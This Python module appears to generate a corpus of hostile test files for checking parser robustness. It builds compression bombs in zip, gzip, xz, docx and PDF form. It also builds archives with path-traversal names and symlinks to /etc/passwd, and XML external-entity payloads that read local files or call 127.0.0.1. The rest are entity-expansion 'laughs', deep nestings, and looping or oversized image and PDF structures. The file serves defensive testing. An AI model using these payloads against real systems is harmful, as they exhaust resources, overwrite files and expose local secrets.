"""Sixty files that were made to hurt whoever reads them, built here: bombs, quines, nests, traps and lies."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from email.message import EmailMessage
from functools import cache

SPACES = b" " * 1_000_000
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def zip_of(*members: tuple[str, bytes], repeat: int = 1) -> bytes:
    """Each member's content `repeat` times, streamed, so that a bomb costs nobody here any memory."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in members:
            with archive.open(zipfile.ZipInfo(name), "w", force_zip64=True) as member:
                for _ in range(repeat):
                    member.write(content)
    return out.getvalue()


def office(path: str, start: str, middle: bytes, repeat: int, end: str = "") -> bytes:
    """An office file whose main part is `middle` again and again."""
    out = io.BytesIO()
    archive = zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1)
    with archive as made, made.open(path, "w") as member:
        member.write(start.encode())
        for _ in range(repeat):
            member.write(middle)
        member.write(end.encode())
    return out.getvalue()


def compressed(packer: object, times: int) -> bytes:
    """`times` MB of zeros through a compressor object."""
    out = b""
    for _ in range(times):
        out += packer.compress(bytes(1 << 20))  # type: ignore[attr-defined]
    return out + packer.flush()  # type: ignore[attr-defined, no-any-return]


def lying(content: bytes, size: int) -> bytes:
    """The archive with a directory that promises another size."""
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 24] + struct.pack("<L", size) + content[at + 28 :]


def nested_zip(levels: int, width: int = 1) -> bytes:
    content, name = b"bottom", "bottom.txt"
    for level in range(levels):
        content, name = zip_of(*((f"{number}-{name}", content) for number in range(width))), f"{level}.zip"
    return content


def tar_with(*members: tarfile.TarInfo) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for member in members:
            archive.addfile(member, io.BytesIO(bytes(member.size)) if member.isfile() else None)
    return out.getvalue()


def tar_member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", size: int = 0) -> tarfile.TarInfo:
    member = tarfile.TarInfo(name)
    member.type, member.linkname, member.size = kind, link, size
    return member


def entities(levels: int = 9) -> str:
    inner = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels + 1))
    return f'<!DOCTYPE r [<!ENTITY e0 "boom">{inner}]>'


def png_of(width: int, height: int, data: bytes = b"") -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))

    head = struct.pack(">LLBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def tiff_of(entries: list[tuple[int, int, int, int]], following: int = 0) -> bytes:
    body = b"".join(struct.pack("<HHLL", *entry) for entry in entries)
    return b"II*\x00" + struct.pack("<LH", 8, len(entries)) + body + struct.pack("<L", following)


PICTURE = [(256, 4, 1, 20), (257, 4, 1, 20), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8),
           (277, 3, 1, 1), (278, 4, 1, 20), (279, 4, 1, 400)]  # fmt: skip


def pdf_of(*objects: str, streams: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    """Objects numbered from 1, the first the catalog, streams behind them; no table, so that it must be searched."""
    out = b"%PDF-1.7\n"
    for number, content in enumerate(objects, start=1):
        out += f"{number} 0 obj\n{content}\nendobj\n".encode()
    for number, (head, data) in enumerate(streams, start=len(objects) + 1):
        out += f"{number} 0 obj\n<<{head}/Length {len(data)}>>\nstream\n".encode() + data + b"\nendstream\nendobj\n"
    return out + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


def page_pdf(contents: bytes, head: str = "", box: str = "0 0 600 800") -> bytes:
    page = f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>"
    form = b"/X Do /X Do /X Do"
    return pdf_of(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        page,
        streams=(
            (head, contents),
            ("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>", form),
        ),
    )


def mail_with(parts: int) -> bytes:
    head = b"From: a@b.example\nTo: c@d.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n"
    part = b"--x\nContent-Type: text/plain\nContent-Disposition: attachment; filename=%d.txt\n\npart %d\n"
    return head + b"".join(part % (number, number) for number in range(parts)) + b"--x--\n"


def mails_in_mails(depth: int) -> bytes:
    return b"From: a@b.example\nTo: c@d.example\nContent-Type: message/rfc822\n\n" * depth + b"Subject: x\n\nend\n"


def mail_of_names() -> bytes:
    made = EmailMessage()
    made["From"], made["To"] = "a@b.example", "c@d.example"
    made.set_content("body")
    for name in ("../../../../tmp/x.txt", "/etc/cron.d/x", "C:\\x.txt", "\\\\server\\x", "x" * 5_000):
        made.add_attachment(b"evil", maintype="text", subtype="plain", filename=name)
    return made.as_bytes()


def numbers(count: int) -> bytes:
    return b"".join(b"<w:p><w:r><w:t>row</w:t></w:r></w:p>" for _ in range(count))


DOCX_START = f"<w:document {W}><w:body>"
EXTERNAL = '<!DOCTYPE r [<!ENTITY x SYSTEM "{}">]>'


def overlapping() -> bytes:
    """One compressed megabyte that a thousand entries of the directory point to."""
    whole = zip_of(("a.txt", SPACES))
    start = whole.index(b"PK\x01\x02")
    end = whole.rindex(b"PK\x05\x06")
    central = whole[start : whole.index(b"PK\x05\x06")] if b"PK\x06\x06" not in whole else whole[start:end]
    body = whole[:start] + central * 1_000
    return body + struct.pack("<LHHHHLLH", 0x06054B50, 0, 0, 1_000, 1_000, len(central) * 1_000, start, 0)


def quine() -> bytes:
    """A gzip file that unpacks to itself (Cox, 2010) cannot be built in a line; one that stands in itself does here."""
    content = b"end"
    for _ in range(200):
        content = gzip.compress(content)
    return content


def big_tar() -> bytes:
    whole = bytearray(tar_with(tar_member("big.txt", size=512)))
    whole[124:136] = b"77777777777\0"
    whole[148:156] = b" " * 8
    whole[148:156] = f"{sum(whole[:512]):06o}\0 ".encode()
    return bytes(whole[:1_024])


def yaml_laughs() -> bytes:
    lines = ["a0: &a0 [boom, boom, boom, boom, boom, boom, boom, boom, boom]"]
    lines += [f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 9)}]" for level in range(1, 12)]
    return "\n".join(lines).encode()


def corner() -> bytes:
    cells = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>corner</t></is></c></row>'
    return f'<worksheet {S}><dimension ref="A1:XFD1048576"/><sheetData>{cells}</sheetData></worksheet>'.encode()


@cache
def bomb_data() -> bytes:
    return compressed(zlib.compressobj(1), 150)


@cache
def zeros() -> bytes:
    """More than a file inside another may have, in a gzip."""
    return compressed(zlib.compressobj(1, wbits=31), 140)


@cache
def spaces() -> bytes:
    """The same in a ZIP archive."""
    return zip_of(("a.txt", SPACES), repeat=140)


# name -> (builder, file name)
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    # what unpacks to much more than it is
    "a zip of 140 MB of spaces": (spaces, "bomb.zip"),
    "a zip of 40 large members": (lambda: zip_of(*((f"{n}.txt", SPACES) for n in range(40)), repeat=14), "many.zip"),
    "a zip whose directory says small": (lambda: lying(spaces(), 10), "small.zip"),
    "a zip whose directory says huge": (lambda: lying(zip_of(("a.txt", b"x")), 0xFFFFFFF0), "huge.zip"),
    "a zip nested 30 deep": (lambda: nested_zip(30), "deep.zip"),
    "a zip that doubles in 12 levels": (lambda: nested_zip(12, 2), "tree.zip"),
    "a zip of 20,000 empty members": (lambda: zip_of(*((f"{n}", b"") for n in range(20_000))), "million.zip"),
    "a zip with members that overlap": (lambda: overlapping(), "overlap.zip"),
    "a zip bomb called .doc": (spaces, "bomb.doc"),
    "a docx of 210 MB": (lambda: office("word/document.xml", DOCX_START, SPACES, 210), "bomb.docx"),
    "a gzip of 140 MB of zeros": (zeros, "bomb.gz"),
    "a gzip in a gzip in a gzip": (
        lambda: gzip.compress(gzip.compress(zeros())),
        "bomb.gz.gz.gz",
    ),
    "a bzip2 of 140 MB of zeros": (lambda: compressed(bz2.BZ2Compressor(1), 140), "bomb.bz2"),
    "an xz of 140 MB of zeros": (lambda: compressed(lzma.LZMACompressor(preset=0), 140), "bomb.xz"),
    "an xz that asks for 1.5 GB": (
        lambda: lzma.compress(b"x" * 1_000, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 30}]),
        "dictionary.xz",
    ),
    "a gzip that is itself": (lambda: quine(), "quine.gz"),
    "a svg of 140 MB in a gzip": (zeros, "bomb.svgz"),
    # names and links that lead out
    "a zip of names that lead out": (
        lambda: zip_of(
            ("../../../tmp/out.txt", b"1"), ("/tmp/out.txt", b"2"), ("C:\\out.txt", b"3"), ("a\\..\\b", b"4")
        ),
        "out.zip",
    ),
    "a tar of links to /etc/passwd": (
        lambda: tar_with(tar_member("a", tarfile.SYMTYPE, "/etc/passwd"), tar_member("b", tarfile.LNKTYPE, "a")),
        "links.tar",
    ),
    "a tar of devices and pipes": (
        lambda: tar_with(tar_member("zero", tarfile.CHRTYPE), tar_member("pipe", tarfile.FIFOTYPE)),
        "devices.tar",
    ),
    "a tar of names that lead out": (
        lambda: tar_with(tar_member("../../tmp/out", size=5), tar_member("/tmp/out", size=6)),
        "out.tar",
    ),
    "a tar that says 8 GB": (lambda: big_tar(), "big.tar"),
    "a mail of names that lead out": (mail_of_names, "names.eml"),
    # nests
    "json nested 100,000 deep": (lambda: b"[" * 100_000, "deep.json"),
    "json objects nested 50,000 deep": (lambda: b'{"a":' * 50_000 + b"1" + b"}" * 50_000, "objects.json"),
    "html nested 100,000 deep": (lambda: b"<html>" + b"<div>" * 100_000 + b"x", "deep.html"),
    "html tables in tables": (lambda: b"<html>" + b"<table><tr><td>" * 3_000 + b"x", "tables.html"),
    "xml nested 100,000 deep": (lambda: b"<?xml version='1.0'?>" + b"<a>" * 100_000, "deep.xml"),
    "rtf nested 100,000 deep": (lambda: b"{\\rtf1 " + b"{\\b " * 100_000 + b"x", "deep.rtf"),
    "yaml of aliases": (lambda: yaml_laughs(), "laughs.yaml"),
    "yaml nested 20,000 deep": (lambda: b"a: " + b"[" * 20_000, "deep.yaml"),
    "lists nested 1,500 deep": (lambda: b"\n".join(b" " * 2 * n + b"- x" for n in range(1_500)), "lists.md"),
    "quotes nested 100,000 deep": (lambda: b"> " * 100_000 + b"x", "deep.md"),
    "a mail nested 1,000 deep": (lambda: mails_in_mails(1_000), "deep.eml"),
    "multiparts nested 5,000 deep": (
        lambda: b"From: a@b\nTo: c@d\n" + b"Content-Type: multipart/mixed; boundary=x\n\n--x\n" * 5_000,
        "parts.eml",
    ),
    # many
    "a mail of 10,000 attachments": (lambda: mail_with(10_000), "many.eml"),
    "a mailbox of 12,000 mails": (
        lambda: b"From a@b Mon Jun 01 10:00:00 2026\nSubject: x\n\nhello\n\n" * 12_000,
        "many.mbox",
    ),
    "a docx of a million paragraphs": (
        lambda: office("word/document.xml", DOCX_START, numbers(1_000), 1_000, "</w:body></w:document>"),
        "rows.docx",
    ),
    "an xlsx whose cell stands at its far corner": (
        lambda: zip_of(("xl/workbook.xml", b"<workbook/>"), ("xl/worksheets/sheet1.xml", corner())),
        "corner.xlsx",
    ),
    "a csv of a million columns": (lambda: b"a," * 1_000_000 + b"\nb\n", "wide.csv"),
    "a table that says it spans a million": (
        lambda: b"<html><table>" + b"<tr><td colspan=1000000 rowspan=1000000>x" * 500,
        "span.html",
    ),
    # entities and what lies outside
    "xml entities of entities": (lambda: (entities() + "<r>&e9;</r>").encode(), "laughs.xml"),
    "docx entities of entities": (
        lambda: zip_of(("word/document.xml", f"{entities()}<w:document {W}>&e9;</w:document>".encode())),
        "laughs.docx",
    ),
    "xml with a file of this machine": (
        lambda: (EXTERNAL.format("file:///etc/passwd") + "<r>&x;</r>").encode(),
        "file.xml",
    ),
    "xml with a page of the network": (
        lambda: (EXTERNAL.format("http://127.0.0.1:9/x") + "<r>&x;</r>").encode(),
        "net.xml",
    ),
    "xml with an outside definition": (
        lambda: b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://127.0.0.1:9/r.dtd"><r>x</r>',
        "dtd.xml",
    ),
    "html that includes this machine": (
        lambda: b'<html><xi:include href="/etc/passwd" parse="text"/><iframe src="file:///etc/passwd">x</html>',
        "include.html",
    ),
    "rst that includes this machine": (
        lambda: b"Title\n=====\n\n.. include:: /etc/passwd\n\n.. raw:: html\n   :file: /etc/passwd\n",
        "include.rst",
    ),
    # traps for patterns
    "emphasis without end": (lambda: b"*a **b " * 60_000, "stars.md"),
    "brackets without end": (lambda: b"[" * 200_000 + b"](", "links.md"),
    "spaces without end": (lambda: b"From:" + b" " * 1_000_000 + b"\n" + b"\t" * 1_000_000, "spaces.txt"),
    "comments without end": (lambda: b"<!-- " * 200_000, "comments.html"),
    "10 MB in one word": (lambda: b"x" * 10_000_000, "word.txt"),
    # pictures
    "a png of 60,000 by 60,000": (lambda: png_of(60_000, 60_000, zlib.compress(bytes(1 << 20))), "huge.png"),
    "a png whose data go on for 150 MB": (lambda: png_of(3_000, 3_000, bomb_data()), "data.png"),
    "a tiff whose pages go in circles": (lambda: tiff_of(PICTURE, following=8), "circle.tif"),
    "a tiff of 4 billion strips": (lambda: tiff_of([*PICTURE[:5], (273, 4, 0xFFFFFFFF, 8)]), "strips.tif"),
    # pdf
    "a pdf whose pages hold each other": (
        lambda: pdf_of("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>"),
        "circle.pdf",
    ),
    "a pdf that draws itself": (lambda: page_pdf(b"/X Do"), "draws.pdf"),
    "a pdf whose stream unpacks to 150 MB": (
        lambda: page_pdf(bomb_data(), "/Filter/FlateDecode"),
        "stream.pdf",
    ),
    "a pdf page of endless size": (lambda: page_pdf(b"0 0 9 9 re f", box="0 0 1e30 1e30"), "size.pdf"),
    "a pdf of a million lines to draw": (lambda: page_pdf(b"0 0 m 9 9 l S " * 1_000_000), "paths.pdf"),
    # nonsense
    "office signs and nonsense": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(100_000), "x.msg"),
    "a picture and an archive in one": (lambda: png_of(1, 1) + zip_of(("a.txt", b"two faces")), "both.png"),
}
